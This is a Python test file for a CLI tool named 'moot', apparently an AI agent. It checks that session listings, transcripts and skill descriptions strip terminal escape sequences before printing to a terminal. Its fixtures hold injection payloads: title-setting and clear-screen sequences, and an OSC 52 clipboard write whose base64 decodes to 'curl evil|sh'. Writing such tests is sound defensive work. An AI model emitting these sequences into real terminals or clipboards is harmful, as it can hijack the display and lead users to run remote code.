"""What `moot sessions list` and `show` print of a session is text: a title, the model's words
or a file a tool read never carry a control sequence to the terminal."""

from __future__ import annotations

import json
import re
from pathlib import Path

from moot_cli import RunMoot

TITLE = "\x1b]2;PWNED\x07"
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_a_sessions_listing_and_transcript_print_no_control_character(
    tmp_path: Path, moot: RunMoot
) -> None:
    (tmp_path / "notes.txt").write_text(f"hello {TITLE} world \x9b2J\n")
    read = {"name": "read", "arguments": {"path": "notes.txt"}}
    turns = [{"text": f"model {TITLE} says", "tool_calls": [read]}, {"text": "done"}]
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": turns}))
    done = moot("-p", f"look {TITLE} here", "--model", f"scripted:{script}")
    assert done.returncode == 0, done.stderr
    listing = moot("sessions", "list")
    assert "look ]2;PWNED here" in listing.stdout
    session_id = listing.stdout.split()[0]
    shown = moot("sessions", "show", session_id)
    assert "hello ]2;PWNED world 2J" in shown.stdout
    for printed in (listing.stdout, shown.stdout):
        assert not _CONTROLS.search(printed), printed
    exported = moot("sessions", "export", session_id, "--format", "json")
    assert "\\u001b]2;PWNED" in exported.stdout  # JSON keeps every character, escaped


def test_a_headless_run_on_a_terminal_prints_no_sequence_of_the_model(tmp_path: Path) -> None:
    import sys

    import pexpect

    from pty_moot import in_terminal, terminal_env

    clipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # OSC 52: "curl evil|sh" on the clipboard
    write = {"name": "write", "arguments": {"path": f"a{clipboard}.txt", "content": "x"}}
    turns = [{"tool_calls": [write]}, {"text": f"final {TITLE} answer"}]
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": turns}))
    env = {**terminal_env(tmp_path), "MOOT_HOME": str(tmp_path / "home")}
    child = in_terminal(
        sys.executable, ["-m", "moot.cli", "-p", "go", "--model", f"scripted:{script}"],
        tmp_path, env,
    )  # fmt: skip
    child.expect(pexpect.EOF)
    printed = child.before
    assert "final ]2;PWNED answer" in printed
    assert "]52;c;Y3VybCBldmlsfHNo" in printed  # the refusal names the path, as text
    assert "\x1b]" not in printed and "\x07" not in printed


def test_a_headless_run_into_a_pipe_keeps_every_character(tmp_path: Path, moot: RunMoot) -> None:
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": [{"text": f"final {TITLE} answer"}]}))
    done = moot("-p", "go", "--model", f"scripted:{script}")
    assert done.stdout == f"final {TITLE} answer\n"


def test_a_repositorys_skill_described_with_a_sequence_lists_inert_on_a_terminal(
    tmp_path: Path,
) -> None:
    import sys

    import pexpect

    from pty_moot import in_terminal, terminal_env

    skill = tmp_path / ".moot" / "skills" / "evil"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text(
        '---\nname: evil\ndescription: "nice \\e]52;c;eA==\\a"\n---\nx\n'
    )
    env = {**terminal_env(tmp_path), "MOOT_HOME": str(tmp_path / "home")}
    for args in (["skills", "list"], ["skills", "show", "evil"]):
        child = in_terminal(sys.executable, ["-m", "moot.cli", *args], tmp_path, env)
        child.expect(pexpect.EOF)
        assert "nice ]52;c;eA==" in child.before
        assert "\x1b" not in child.before and "\x07" not in child.before
